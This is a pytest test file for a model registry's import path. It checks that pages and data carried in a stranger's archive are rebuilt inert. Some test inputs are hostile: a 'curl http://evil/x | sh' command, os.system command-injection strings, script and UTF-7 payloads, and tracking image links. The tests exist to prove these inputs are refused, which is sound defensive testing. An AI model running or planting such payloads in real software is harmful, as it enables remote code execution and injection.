"""Archives that strangers made: of their pages nothing is kept, and what is written from their data does nothing."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from collections.abc import Callable
from html import unescape
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from click.testing import CliRunner

from crystalsweep.artifacts.archive import pack, unpack
from crystalsweep.artifacts.seal import SEAL, seal
from crystalsweep.cli.evaluate import evaluate
from crystalsweep.cli.registry import promote, registry, verify
from crystalsweep.evaluation.suite import Suite, find_suite
from crystalsweep.inference.locate import locate
from crystalsweep.inference.restorer import load
from crystalsweep.pages.text import plain_markdown
from crystalsweep.registry.dossier import read_dossier
from crystalsweep.registry.foreign import KEPT, content_sha256, require_harmless
from crystalsweep.registry.judging import command_of
from crystalsweep.registry.remaking import remake, require_name, require_plain
from crystalsweep.tracking.tracker import Tracker, sqlite_uri
from tests.browser import listening, needs_browser, opened
from tests.html_words import words_of
from tests.registry.payloads import MARKDOWN, PAGES, against

pytestmark = pytest.mark.server  # a store, and evaluations in processes of their own

CHAMPION = "models:/crystal-generator@champion"
SHOWN = ("dossier/dossier.html", "dossier/evaluation/report.html")


def ran(command: Any, storage: Path, *arguments: object, code: int = 0) -> str:
    where = ("--storage", str(storage), "--tracking-uri", sqlite_uri(storage))
    result = CliRunner().invoke(command, [*map(str, arguments), *where])
    assert result.exit_code == code, f"{result.output}\n{result.exception!r}"
    return str(result.output)


@pytest.fixture(scope="module")
def exported(promoted: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A champion of another registry, as its archive's files."""
    folder = tmp_path_factory.mktemp("exported")
    ran(registry, promoted, "export", CHAMPION, folder / "champion.zip")
    return unpack(folder / "champion.zip", folder / "files")


@pytest.fixture
def files(exported: Path, tmp_path: Path) -> Path:
    """A copy of them, to change."""
    folder = tmp_path / "files"
    shutil.copytree(exported, folder)
    return folder


def archive(folder: Path, file: Path, **record: object) -> Path:
    """Seal and pack changed files as a stranger would: consistent in itself."""
    told = json.loads((folder / "registry.json").read_text()) | record
    (folder / "registry.json").unlink()
    told["tags"] = dict(told["tags"]) | {SEAL: seal(folder)}
    (folder / "registry.json").write_text(json.dumps(told))
    pack(folder, file)
    return file


def rewrite(file: Path, change: Callable[[Any], None]) -> None:
    content = json.loads(file.read_text())
    change(content)
    file.write_text(json.dumps(content))


@needs_browser
def test_the_payloads_do_harm_where_nothing_holds_them(tmp_path: Path) -> None:
    """Else the tests below would prove nothing."""
    with listening() as (server, asked):
        for number, payload in enumerate(PAGES):
            (tmp_path / f"{number}.html").write_text(against(server, payload, number))
        frames = "".join(f'<iframe src="{number}.html"></iframe>' for number in range(len(PAGES)))
        (tmp_path / "all.html").write_text(frames)
        for seconds in (5, 20, 60):  # where the machine has other work, the browser takes longer
            opened(tmp_path / "all.html", tmp_path, seconds)
            harmful = {int(path.strip("/")) for path in asked if path.strip("/").isdigit()}
            if len(harmful) >= 45:
                break
    silent = [PAGES[number] for number in sorted(set(range(len(PAGES))) - harmful)]
    assert len(harmful) >= 45, "\n".join(silent)


def spoil_pages(folder: Path, server: str) -> None:
    """Put all payloads into every file that a browser or MLflow might show, in the encodings that browsers guess."""
    texts = [against(server, payload, number) for number, payload in enumerate(PAGES)]
    (folder / SHOWN[0]).write_text("<title>theirs</title>" + "\n".join(texts))
    (folder / SHOWN[1]).write_bytes("\n".join(reversed(texts)).encode("utf-16"))
    (folder / "MODEL_CARD.md").write_text("\n\n".join(against(server, each, 1) for each in (*MARKDOWN, *PAGES)))
    plots = folder / "dossier" / "evaluation" / "plots"
    (plots / "x.html.png").write_text(texts[0])
    (plots / "x.svg.png").write_text(f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{server}/1"/></svg>')
    for plot in plots.glob("fig*.png"):
        plot.write_bytes(b"+/v8-+ADw-script+AD4-alert(1)+ADw-/script+AD4-")
    (folder / "input_example.json").write_text(json.dumps({"columns": ["cif"], "data": [[texts[0]]]}))
    (folder / "serving_input_example.json").write_text(json.dumps(texts))


def spoil_strings(value: Any, text: str) -> Any:
    """The same JSON with `text` behind every string that is shown and decides nothing."""
    if isinstance(value, dict):
        return {key: spoil_strings(each, text) for key, each in value.items()}
    if isinstance(value, list):
        return [spoil_strings(each, text) for each in value]
    return f"{value} {text}" if isinstance(value, str) else value


def spoil_data(folder: Path, server: str) -> None:
    """Put all payloads into the data that pages are written from: names, sentences, rows of tables."""
    text = " ".join(against(server, each, 1) for each in (*PAGES, *MARKDOWN)).replace("\x00", "")
    dossier, evaluation = folder / "dossier" / "dossier.json", folder / "dossier" / "evaluation"

    def spoil(content: Any) -> None:
        for key in ("decided_at", "decided_by", "forced", "metrics_lock", "suite_sha256", "gates", "environment"):
            content[key] = spoil_strings(content[key], text)
        for key in ("reference", "stage", "backbone", "weights_sha256", "lineage", "run", "data_sha256"):
            content["candidate"][key] = spoil_strings(content["candidate"][key], text)
        content["suite"]["name"] += text
        content["environment"][text] = text
        content["rows"][text] = content["rows"]["ceiling"]
        content["gates"][0]["checks"][0]["passed"] = False  # so that its words are among the reasons

    def spoil_figures(content: Any) -> None:
        for key in ("data", "model", "versions", "metrics_lock", "energies", "replacement"):
            content[key] = spoil_strings(content[key], text)
        content["rows"][text] = content["rows"]["ceiling"]
        content["flags"][text] = [text]
        content["failures"][text] = {text: 1}

    rewrite(dossier, spoil)
    rewrite(evaluation / "metrics.json", spoil_figures)
    table = pd.read_parquet(evaluation / "references.parquet")
    table["row"] = table["row"].map(lambda row: f"{row} {text}" if row == "most common" else row)
    table.to_parquet(evaluation / "references.parquet", index=False)


def require_still(page: Path, server: str, asked: list[str], scratch: Path) -> None:
    """Open a page, and see that it is ours, shows itself and does nothing else."""
    text = page.read_text(encoding="utf-8")
    title = re.search(r"<title>(.*?)</title>", text)
    assert title
    assert "default-src 'none'; script-src 'none'" in unescape(text)
    assert not re.search(r"<(script|iframe|svg|math|object|embed|base|link|form|plaintext|xmp)\b", text, re.IGNORECASE)
    seen = opened(page, scratch)
    assert unescape(title[1]).split()[0] in seen[seen.index("<title>") :]
    assert "<title>ran" not in seen
    assert "data-ran" not in seen.partition("<body")[0]
    assert asked == [], f"{page} asked {server}"


@needs_browser
def test_pages_of_an_archive_are_not_kept_and_those_from_its_data_are_still(files: Path, tmp_path: Path) -> None:
    store = tmp_path / "store"
    with listening() as (server, asked):
        spoil_pages(files, server)
        spoil_data(files, server)
        hostile = archive(files, tmp_path / "hostile.zip", description=f"![picture]({server}/1)", run="0" * 32)
        told = ran(registry, store, "import", hostile, "--to", "champion")
        assert "dossier.html, MODEL_CARD.md and report.html are written anew" in told
        tracker = Tracker(sqlite_uri(store))
        root = locate(CHAMPION, tracker, store / "downloads").root
        for name in SHOWN:
            require_still(root / name, server, asked, tmp_path)
        card = (root / "MODEL_CARD.md").read_text()
        version = tracker.registered("crystal-generator", version="1")
        for text in (card, version.description):
            assert not re.search(r"<\w|!\[|\]\s*\(|\]\s*\[|(?m:^\s*\[)", text)
    data = {root / name for name in KEPT}
    for path in root.rglob("*"):
        if path.is_file() and path not in data:
            assert b"theirs" not in path.read_bytes()
            assert path.suffix != ".png" or path.read_bytes().startswith(b"\x89PNG\r\n")
    assert not list(root.rglob("x.*"))
    assert "rock-salt" in (root / "input_example.json").read_text()
    assert version.run_id != "0" * 32


def test_what_an_honest_archive_shows_is_shown_again(exported: Path, tmp_path: Path) -> None:
    dossier = read_dossier(exported)
    told = remake(exported, dossier, tmp_path / "anew")
    assert len(told) == 1
    assert "its own pages are not kept" in told[0]
    plots = Path("dossier", "evaluation", "plots")
    drawn = {path.name for path in (exported / plots).iterdir()}
    assert {path.name for path in (tmp_path / "anew" / plots).iterdir()} == drawn
    report = SHOWN[1]
    assert (tmp_path / "anew" / report).read_text().count("<img") == (exported / report).read_text().count("<img")
    assert content_sha256(tmp_path / "anew") == content_sha256(exported)
    page = (tmp_path / "anew" / SHOWN[0]).read_text()
    assert "pages of an archive are not kept" in page
    for check in (check for gate in dossier.gates for check in gate.checks):
        assert check.title in words_of(page)


@pytest.mark.parametrize("missing", ["structures.parquet", "plots"])
def test_without_tables_the_report_has_figures_only(files: Path, tmp_path: Path, missing: str) -> None:
    path = files / "dossier" / "evaluation" / missing
    shutil.rmtree(path) if path.is_dir() else path.unlink()
    told = remake(files, read_dossier(files), tmp_path / "anew")
    lacking = "of the evaluation there is a report without plots: no structures.parquet"
    assert (lacking in told) == (missing == "structures.parquet")
    assert "Headline" in (tmp_path / "anew" / SHOWN[1]).read_text()


def test_tables_and_figures_that_cannot_be_shown_leave_no_page(files: Path, tmp_path: Path) -> None:
    evaluation = files / "dossier" / "evaluation"
    pd.DataFrame({"row": [1]}).to_parquet(evaluation / "structures.parquet")
    told = remake(files, read_dossier(files), tmp_path / "a")
    assert "a report without plots: its tables cannot be drawn (ValueError)" in told[1]
    rewrite(evaluation / "metrics.json", lambda content: content["distributions"].update(density={}))
    told = remake(files, read_dossier(files), tmp_path / "b")
    assert "no report: its tables cannot be drawn (ValueError), and its figures cannot be shown (KeyError)" in told[1]
    assert not (tmp_path / "b" / SHOWN[1]).exists()


def test_figures_of_crystals_that_are_not_named_are_shown(files: Path, tmp_path: Path) -> None:
    rewrite(files / "dossier" / "evaluation" / "metrics.json", lambda content: content["data"].clear())
    assert len(remake(files, read_dossier(files), tmp_path / "anew")) == 1
    page = (tmp_path / "anew" / SHOWN[1]).read_text()
    assert "parents from a source that is not named; no reference" in page
    assert "Headline" in page


@pytest.mark.parametrize(
    "name",
    [
        *("x.html", "x.htm", "x.xhtml", "x.shtml", "x.mhtml", "x.mht", "x.svg", "x.svgz", "x.xml", "x.xsl", "x.md"),
        *("x.geojson", "x.pdf", "x.ipynb", "x.js", "x.css", "x.py", "x.html.png", "x.png.html", "X.HTML", "x.json"),
        *("dossier/x.html", "dossier/dossier.htm", "dossier/dossier.html.png", "dossier/evaluation/x.svg", ".x"),
        *("dossier/evaluation/plots/x.svg", "dossier/evaluation/plots/x.png.svg", "dossier/evaluation/plots/a/x.png"),
        *("checkpoint/x.html", "checkpoint/training.pt", "dossier/Dossier.HTML", "dossier/evaluation/plots/x.PNG"),
        *("MODEL_CARD.md.html", "registered_model_meta/x.html", "code/__init__.py", "dossier/evaluation/plots"),
    ],
)
def test_a_file_that_no_promotion_writes_is_refused(files: Path, name: str) -> None:
    require_harmless(files)
    shutil.rmtree(files / name, ignore_errors=True)
    (files / name).parent.mkdir(parents=True, exist_ok=True)
    (files / name).write_text("<script>document.title = 'ran'</script>")
    with pytest.raises(ValueError, match=r"is no file of a promoted version|are one file"):
        require_harmless(files)


@pytest.mark.parametrize("name", [name for name in KEPT if "discriminator" not in name])
@pytest.mark.parametrize(
    "content",
    [
        b"<script>document.title = 'ran'</script>",
        b"\xff\xfe" + "<script>document.title = 'ran'</script>".encode("utf-16-le"),
        b"+/v8-+ADw-script+AD4-",
        b"\x89PNG\r\n\x1a\n<script></script>",
        b"%PDF-1.7",
        b"",
    ],
)
def test_data_that_is_a_page_is_refused(files: Path, name: str, content: bytes) -> None:
    (files / name).write_bytes(content)
    with pytest.raises(ValueError, match=re.escape(Path(name).name)):
        require_harmless(files)


def test_a_table_too_large_to_be_read_is_refused(files: Path) -> None:
    file = files / "dossier" / "evaluation" / "structures.parquet"
    pd.DataFrame({"row": pd.Series(0, index=range(2_000_001), dtype="int8")}).to_parquet(file)
    with pytest.raises(ValueError, match=r"structures\.parquet would have 2,000,001 rows"):
        require_harmless(files)


@pytest.mark.parametrize(
    ("key", "value", "told"),
    [
        ("command", "curl http://evil/x | sh", "another command than"),
        ("model", 'x"); import os; os.system("id', "which is no plain name"),
        ("model", "--model=x", "which is no plain name"),
        ("alias", "champion; id", "which is no plain name"),
        ("metric", "no such", "unknown metric"),
        ("gates", [], "gates without checks, or none"),
        ("gates", [{"name": "physics", "title": "Physics", "checks": []}], "gates without checks, or none"),
    ],
)
def test_what_readers_would_copy_is_plain(files: Path, key: str, value: object, told: str) -> None:
    rewrite(files / "dossier" / "dossier.json", lambda content: content.update({key: value}))
    with pytest.raises(ValueError, match=told):
        require_plain(read_dossier(files))


def with_calculator(folder: Path, calculator: str) -> None:
    """Let the dossier's suite have energies computed by it, consistently."""

    def change(content: Any) -> None:
        content["suite"]["settings"]["energies"]["calculator"] = calculator
        content["suite_sha256"] = Suite.model_validate(content["suite"]).sha256()

    rewrite(folder / "dossier" / "dossier.json", change)
    for name in ("suite.json", "evaluation/metrics.json"):
        told = folder / "dossier" / name
        rewrite(told, lambda content: content["settings"]["energies"].update(calculator=calculator))


CODE = ('os:system{{"command": "touch \'{mark}\'"}}', 'os.system{{"command": "touch \'{mark}\'"}}', "uma:{mark}")


@pytest.mark.parametrize("calculator", CODE)
def test_a_calculator_that_only_an_archive_names_is_not_run(files: Path, tmp_path: Path, calculator: str) -> None:
    """It would be imported and called with the archive's own words."""
    mark = tmp_path / "ran"
    with_calculator(files, calculator.format(mark=mark))
    suite = files / "dossier" / "suite.json"
    file = archive(files, tmp_path / "hostile.zip")
    told = ran(verify, tmp_path / "store", file, "--workers", "1", code=1)
    assert "would run as code on this machine" in " ".join(told.split())
    assert "would run as code" in ran(registry, tmp_path / "store", "import", file, code=1)
    asked = ("--checkpoint", files / "checkpoint", "--suite", suite, "--out", tmp_path / "out")
    assert "would run as code" in ran(evaluate, tmp_path / "store", *asked, code=1)
    assert "would run as code" in ran(promote, tmp_path / "store", files / "checkpoint", "--suite", suite, code=1)
    assert "has the calculator" in ran(evaluate, tmp_path / "store", *asked, "--calculator", "chgnet", code=1)
    assert not mark.exists()


def test_a_calculator_of_ones_own_is_run_where_it_is_named(files: Path) -> None:
    own = "ase.calculators.lj:LennardJones"
    with_calculator(files, own)
    suite = find_suite(str(files / "dossier" / "suite.json"), own)
    assert command_of(suite).endswith(f"--out again --calculator {own}")


def test_a_suite_beside_the_dossier_is_the_dossiers(files: Path, tmp_path: Path) -> None:
    """The command that readers are told runs it."""
    rewrite(files / "dossier" / "suite.json", lambda content: content.update(part="train"))
    told = ran(registry, tmp_path / "store", "import", archive(files, tmp_path / "odd.zip"), code=1)
    assert "suite.json is not the suite of dossier.json" in told


@pytest.mark.parametrize("name", ["", "a/b", "x' or '1", "a\nb", "-x", "crystal-generator.lock-0", "x" * 300, "<b>"])
def test_a_name_that_is_more_than_a_name_is_refused(name: str) -> None:
    with pytest.raises(ValueError, match="which is no plain name"):
        require_name(name, "registry.json names a model")
    require_name("crystal-generator 2.1_beta", "registry.json names a model")


def test_a_dossier_that_cannot_be_shown_is_refused_in_a_line(files: Path, tmp_path: Path) -> None:
    rewrite(files / "dossier" / "dossier.json", lambda content: content["candidate"].update(lineage=[{}]))
    told = ran(registry, tmp_path / "store", "import", archive(files, tmp_path / "odd.zip"), code=1)
    assert "dossier.json cannot be shown (UndefinedError" in told
    assert not Tracker(sqlite_uri(tmp_path / "store")).client.search_registered_models()


def test_an_archive_says_nothing_of_runs_and_tags_that_is_believed(files: Path, tmp_path: Path) -> None:
    store = tmp_path / "store"
    tracker = Tracker(sqlite_uri(store))
    mine = tracker.start(tracker.experiment("gan", store / "mlflow-artifacts"), "mine", kind="trial")
    tracker.finish(mine, "FINISHED")
    record = json.loads((files / "registry.json").read_text())
    tags = record["tags"] | {"masked_accuracy": "0.999", "crystalsweep.verdict": "blessed", "mlflow.user": "boss"}
    claimed = archive(files, tmp_path / "claims.zip", run=mine, description="Blessed by the boss", tags=tags)
    ran(registry, store, "import", claimed)
    version = tracker.registered("crystal-generator", version="1")
    assert version.run_id != mine
    assert version.tags["crystalsweep.verdict"] == "promoted"
    assert version.tags["masked_accuracy"] != "0.999"
    assert "mlflow.user" not in version.tags
    assert version.description.startswith("Imported. Promoted to crystal-generator@champion.")


def test_data_that_the_server_has_is_not_sent_again_whoever_exported_it(exported: Path, tmp_path: Path) -> None:
    """From the first registry to a second, to a third, and back to the second."""
    second, third = tmp_path / "second", tmp_path / "third"
    first = archive(shutil.copytree(exported, tmp_path / "files"), tmp_path / "first.zip")
    assert "written anew" in ran(registry, second, "import", first, "--to", "champion")
    ran(registry, second, "export", CHAMPION, tmp_path / "second.zip")
    ran(registry, third, "import", tmp_path / "second.zip", "--to", "champion")
    ran(registry, third, "export", CHAMPION, tmp_path / "third.zip")
    told = ran(registry, second, "import", tmp_path / "third.zip", "--to", "champion")
    assert "version 1, which this server had, now champion" in told


def test_an_archive_that_is_loaded_leaves_no_pages_on_the_disk(files: Path, tmp_path: Path) -> None:
    spoil_pages(files, "http://127.0.0.1:9")
    file = archive(files, tmp_path / "hostile.zip")
    assert load(file, storage=tmp_path / "storage").info.stage == "gan"
    kept = {path.suffix for path in (tmp_path / "storage" / "downloads").rglob("*") if path.is_file()}
    assert kept <= {".json", ".safetensors"}


@pytest.mark.parametrize("text", [*MARKDOWN, *PAGES])
def test_markdown_shows_a_strangers_words_as_they_are(text: str) -> None:
    shown = plain_markdown(text)
    assert "\n" not in shown
    assert not re.search(r"<|(?<!\\)!\[|^\[|\]\s*[(\[]", shown)


@pytest.mark.parametrize("begin", [">", "#", "##", "-", "+", "*", "1.", "12)", "===", "---", "***", "```", "~~~"])
def test_a_strangers_words_begin_no_block(begin: str) -> None:
    """In which a link is defined for what looks like an interval, or the rest of a card is code."""
    for text in (begin, f"{begin} [0.5, 0.6]: http://127.0.0.1:9"):
        assert re.match(r"(\d+)?\\", plain_markdown(text))


def test_a_strangers_words_are_one_cell_and_turn_nothing() -> None:
    assert plain_markdown("candidate | 0.999") == "candidate \\| 0.999"
    assert plain_markdown("a\\[b`\u202e") == "a\\\\\\[b\\`\\u202e"
    assert plain_markdown("-0.03 eV, 1.5 Å, **") == "-0.03 eV, 1.5 Å, **"


def test_markdown_keeps_intervals() -> None:
    assert plain_markdown("better: +0.1 [+0.05, \u22120.2]; a_b*c") == "better: +0.1 [+0.05, \u22120.2]; a_b*c"
    assert plain_markdown("see [1] and [x]") == "see [1] and \\[x]"


def test_a_parser_of_html_is_nowhere() -> None:
    """What a browser runs, only a browser knows."""
    library = Path(__file__).parents[2] / "platform"
    found = subprocess.run(["grep", "-rl", "html.parser", str(library)], capture_output=True, text=True, check=False)
    assert found.stdout == ""
